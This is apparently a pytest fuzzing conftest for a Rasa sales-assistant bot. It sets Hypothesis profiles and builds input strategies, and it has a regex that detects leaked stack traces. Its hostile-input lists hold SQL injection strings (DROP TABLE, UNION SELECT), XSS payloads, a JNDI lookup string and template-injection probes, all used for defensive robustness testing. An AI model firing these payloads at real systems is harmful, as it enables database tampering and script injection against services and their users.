"""Fuzzing: hypothesis profiles, the hostile inputs every fuzz test draws from, and the real servers.

Profiles (``HYPOTHESIS_PROFILE``, see docs/fuzzing.md):

* ``fuzz-ci`` (default): derandomized, so every run tries the same inputs and CI is reproducible;
  no example database; each test's own modest ``max_examples``.
* ``fuzz-long``: random, 10x the examples, failures kept in ``.hypothesis/`` and replayed first.
* ``fuzz-soak``: random, 50x the examples (an hour or more).

The profiles are applied per test through `fuzz_settings` rather than with
``settings.load_profile``, so loading this conftest never changes the hypothesis settings of
the rest of the suite.
"""
from __future__ import annotations

import json
import os
import re
import urllib.error
import urllib.request
from typing import Any, Dict, Iterable, List, Optional, Tuple

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tests.conftest import MODEL_PATH
from tests.servers import Servers

# --------------------------------------------------------------------------- profiles

_SUPPRESS = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example,
             HealthCheck.function_scoped_fixture, HealthCheck.filter_too_much]
_SCALE = {"fuzz-ci": 1.0, "fuzz-long": 10.0, "fuzz-soak": 50.0}
settings.register_profile("fuzz-ci", derandomize=True, database=None, deadline=None, print_blob=True,
                          suppress_health_check=_SUPPRESS)
settings.register_profile("fuzz-long", derandomize=False, deadline=None, print_blob=True,
                          suppress_health_check=_SUPPRESS)
settings.register_profile("fuzz-soak", derandomize=False, deadline=None, print_blob=True,
                          suppress_health_check=_SUPPRESS)
PROFILE = os.environ.get("HYPOTHESIS_PROFILE", "fuzz-ci")
if PROFILE not in _SCALE:  # another suite's profile name: keep the reproducible default here
    PROFILE = "fuzz-ci"


def fuzz_settings(max_examples: int, **overrides: Any) -> settings:
    """The active fuzz profile with this test's number of examples (scaled by the profile)."""
    count = max(1, int(max_examples * _SCALE[PROFILE]))
    return settings(settings.get_profile(PROFILE), max_examples=count, **overrides)


# --------------------------------------------------------------------------- hostile inputs

SQL_INJECTION = [
    "'; DROP TABLE accounts;--", "Robert'); DROP TABLE stakeholders;--", "1' OR '1'='1", "\" OR 1=1 --",
    "%' UNION SELECT name, sql FROM sqlite_master --", "admin'--", "'; UPDATE teams SET key='x';--", "\\'; --",
]
HTML_INJECTION = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>bold</b>", "&lt;&amp;&gt;&#x3C;",
    "javascript:alert(1)", "<!--", "]]></Content></xml>", "<![CDATA[x]]>", "<@U0BOT> <!channel> <#C1|general>",
    "{{7*7}}", "${jndi:ldap://x}", "<svg/onload=alert(1)>", "</textarea><iframe src=//x>",
]
MARKDOWN = ["**bold**", "_it_", "`code`", "```\nblock\n```", "[link](http://x.invalid)", "# heading", "> quote",
            "~strike~", "|a|b|\n|-|-|", "*", "\\", "{json: 1}", "/greet", "/add_account{\"account\": \"X\"}"]
EMOJI = ["🙂", "👍🏽", "👨‍👩‍👧‍👦", "🧑🏽‍💻", "🏳️‍🌈", "🇨🇳🇺🇸", "❤️", "1️⃣", "😀😀😀", "🤝🏻‍🫲🏿", "\U0001FAE0"]
CONTROL = ["\x00", "\x1b[31m", "\u202e", "\u202d", "\u200b", "\ufeff", "\r\n", "\t", "\x7f", "\u2028", "\x85",
           "\u0301", "\x08", "\x0c", "\u200d"]
ODD_NUMBERS = ["1e309", "-0", "٣٤", "三百万万", "1,2,3", "NaN", "inf", "-1", "0.000001", "１２３", "½", "²",
               "999999999999999999999", "1e-309", "0x1F", "2,000,000", "百分之一百五十", "六成半", "三分之〇",
               "0分之1", "200万", "1.5M", "40%", "150%", "$-5", "¥1,2", "两周", "net 90"]
CJK = ["华东精密", "華東精密", "刘建国", "劉建國", "预算两百万", "預算兩百萬", "技术总监", "專案軟體", "𠀀𪚥𡃁",
       "ｆｕｌｌｗｉｄｔｈ", "欧阳", "王总", "恒通水泥", "的了是"]
SALES = ["Maria Lopez is the CFO at Acme", "budget is $1.5M", "影响力六成，是支持者", "they're in technical screening",
         "对手是西门子", "Met Maria today, she said", "40% influence", "economic buyer", "add account Globex",
         "新建客户华东精密", "he is against us", "show the power map", "help"]
ATOMS: List[str] = SQL_INJECTION + HTML_INJECTION + MARKDOWN + EMOJI + CONTROL + ODD_NUMBERS + CJK + SALES + [
    "", " ", "  ", "\n", "，", "。", ".", "'", "\"", "“", "”"]
WHITESPACE = " \t\n\r\x0b\x0c\u3000\u00a0\u2028\u2029\u1680\u2003"

#: a character whose str.lower() is two characters long (U+0130 → "i̇"); see test_fuzz_nlu
DOTTED_I = "\u0130"


def any_unicode(max_size: int = 20) -> st.SearchStrategy[str]:
    """Arbitrary text without surrogates (which no channel can deliver as UTF-8)."""
    return st.text(st.characters(blacklist_categories=("Cs",)), max_size=max_size)


#: lone UTF-16 surrogates: JSON can spell them ("\\udfff"), Python decodes them, UTF-8 cannot carry them
SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff", "\ud83d", "\ude00"]


def invalid_unicode_text(max_pieces: int = 6) -> st.SearchStrategy[str]:
    """Hostile text with at least one lone surrogate somewhere in it (no channel may pass it on)."""
    surrogate = st.one_of(st.sampled_from(SURROGATES), st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF))
    return st.builds(lambda head, bad, tail: head + bad + tail, mixed_text(max_pieces), surrogate,
                     mixed_text(max_pieces))


def with_invalid_unicode(value: Any, where: int) -> Any:
    """`value` (JSON-like) with the string at position `where` (in walk order) spoiled by a lone surrogate."""
    count = [0]

    def walk(item: Any) -> Any:
        if isinstance(item, str):
            count[0] += 1
            return item + "\udfff" if count[0] - 1 == where else item
        if isinstance(item, dict):
            return {walk(k) if isinstance(k, str) else k: walk(v) for k, v in item.items()}
        if isinstance(item, list):
            return [walk(v) for v in item]
        return item

    return walk(value)


def string_count(value: Any) -> int:
    if isinstance(value, str):
        return 1
    if isinstance(value, dict):
        return sum(string_count(k) + string_count(v) for k, v in value.items())
    if isinstance(value, list):
        return sum(string_count(v) for v in value)
    return 0


def nested_json(depth: int, leaf: str = "1") -> bytes:
    """A JSON document nested `depth` objects and arrays deep."""
    return ('{"a": [' * depth + leaf + "]}" * depth).encode()


def mixed_text(max_pieces: int = 10) -> st.SearchStrategy[str]:
    """Hostile pieces (SQL, HTML, emoji, control characters, odd numbers, CJK, sales talk) and random unicode."""
    piece = st.one_of(st.sampled_from(ATOMS), any_unicode(20))
    return st.lists(piece, max_size=max_pieces).map("".join)


def blank_text() -> st.SearchStrategy[str]:
    return st.text(st.sampled_from(WHITESPACE), max_size=30)


def texts(max_pieces: int = 10) -> st.SearchStrategy[str]:
    """Everyday fuzz input: mixed hostile text, often; empty and whitespace-only, sometimes."""
    return st.one_of(mixed_text(max_pieces), mixed_text(max_pieces), mixed_text(max_pieces), st.just(""),
                     blank_text())


def huge_text(min_chars: int = 10_000) -> st.SearchStrategy[str]:
    """10k+ characters: hostile pieces repeated.

    The pieces are separated, so no run of digits or Chinese numerals grows with the
    length (such runs make `bot.numbers` quadratic; that has a test of its own).
    """
    unit = st.builds(lambda parts, sep: sep.join(parts) + sep,
                     st.lists(st.sampled_from([a for a in ATOMS if a.strip()]), min_size=1, max_size=5),
                     st.sampled_from([" ", "\n", "。", " 🙂 "]))
    return st.builds(lambda u, extra: u * (min_chars // len(u) + 1 + extra), unit, st.integers(0, 2))


def names() -> st.SearchStrategy[str]:
    """Account and person names: hostile text, realistic names, and names around the 200-character limit."""
    realistic = st.sampled_from(["Maria Lopez", "Acme Corp", "O'Brien & Sons", "华东精密", "華東精密", "刘建国",
                                 "Straße GmbH", "  Acme  ", "“Acme”", "Acme.", "José Núñez", "李 雷", "X"])
    around_limit = st.builds(lambda ch, n: ch * n, st.sampled_from(["a", "华", "🙂", "é", " a"]),
                             st.integers(190, 215))
    return st.one_of(mixed_text(6), realistic, around_limit, blank_text())


def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Arbitrary JSON values (nested objects and arrays, odd numbers, control characters in strings)."""
    scalars = st.one_of(st.none(), st.booleans(), st.integers(-(2 ** 70), 2 ** 70),
                        st.floats(allow_nan=False, allow_infinity=False), mixed_text(4))
    return st.recursive(scalars, lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(mixed_text(2), children, max_size=4)), max_leaves=max_leaves)


# --------------------------------------------------------------------------- what users must never see

_INTERNALS = re.compile(
    r"Traceback|File \"|\bError:|Exception\b|exception:|sqlalchemy|psycopg|sqlite3|NoneType|object has no attribute|"
    r"\.py\b|line \d+, in|Internal Server Error|KeyError|TypeError|ValueError|AttributeError|rasa_sdk|site-packages")


def leaks(text: str, user_strings: Iterable[Any] = ()) -> List[str]:
    """Internals (stack traces, exception names, file paths) found in a reply.

    What the user wrote is removed first: the bot may quote an account name that says "Error:".
    """
    from bot.language import to_script

    for s in sorted((str(u) for u in user_strings if u), key=len, reverse=True):
        for variant in {s, s.strip(), to_script(s, "zh-Hant"), to_script(s.strip(), "zh-Hant")}:
            if variant:
                text = text.replace(variant, "")
    return _INTERNALS.findall(text)


# --------------------------------------------------------------------------- HTTP without exceptions

def http(method: str, url: str, body: Optional[bytes] = None, headers: Optional[Dict[str, str]] = None,
         timeout: float = 300) -> Tuple[int, bytes]:
    """(status, body) of a request; HTTP errors are answers here, not exceptions."""
    req = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def post_json(url: str, value: Any, timeout: float = 300) -> Tuple[int, Any]:
    status, raw = http("POST", url, json.dumps(value).encode(), {"Content-Type": "application/json"}, timeout)
    try:
        return status, json.loads(raw) if raw else None
    except ValueError:
        return status, raw


# --------------------------------------------------------------------------- the real servers

@pytest.fixture(scope="session")
def fuzz_servers(tmp_path_factory):  # noqa: ANN001, ANN201
    """Action server + Rasa (trained model, credentials.yml) on private SQLite databases.

    Slack and WeCom are listed in credentials.yml but left unconfigured here (their
    variables are blanked even if the environment sets them), as in a default deployment.
    """
    if not MODEL_PATH.exists():
        pytest.fail(f"trained model missing at {MODEL_PATH}: run scripts/train.sh (make test does)")
    from bot.store.migrate import upgrade

    workdir = tmp_path_factory.mktemp("fuzz-servers")
    url = f"sqlite:///{workdir / 'accounts.db'}"
    upgrade(url)
    blank = {name: "" for name in ("SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET", "WECOM_CORP_ID", "WECOM_AGENT_ID",
                                   "WECOM_SECRET", "WECOM_TOKEN", "WECOM_AES_KEY", "REDIS_URL", "DEFAULT_TEAM")}
    servers = Servers(workdir=workdir, model=MODEL_PATH, database_url=url, tracker_db=workdir / "tracker.db",
                      extra_env={"CHART_DIR": str(workdir / "charts"), **blank})
    try:
        servers.start_actions()
        servers.start_rasa()
    except BaseException:
        servers.stop_all()
        raise
    yield servers
    servers.stop_all()
